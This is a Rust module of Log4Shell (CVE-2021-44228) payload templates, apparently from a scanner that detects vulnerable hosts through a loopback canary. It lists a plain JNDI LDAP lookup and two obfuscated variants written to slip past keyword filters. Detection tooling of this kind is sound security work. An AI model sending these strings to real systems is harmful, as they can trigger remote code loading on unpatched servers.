//! Payloads for what old releases of Log4j look up in the texts they log (CVE-2021-44228).
//!
//! The lookup asks the canary port on loopback; nothing that it answers is ever run.

use super::{Effect, Payload, PayloadClass};

const fn jndi(id: &'static str, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::Log4Shell, id, template, Effect::Connects, why)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    jndi("log4shell-ldap", "${jndi:ldap://{A}:{P}/{C}}", "Log4j 2.0 to 2.14 resolves lookups in messages"),
    jndi(
        "log4shell-lower",
        "${${lower:j}${lower:n}di:${lower:l}dap://{A}:{P}/{C}}",
        "a lookup within a lookup hides the words that filters look for",
    ),
    jndi(
        "log4shell-default",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://{A}:{P}/{C}}",
        "the default value of a lookup that does not exist spells the word",
    ),
];
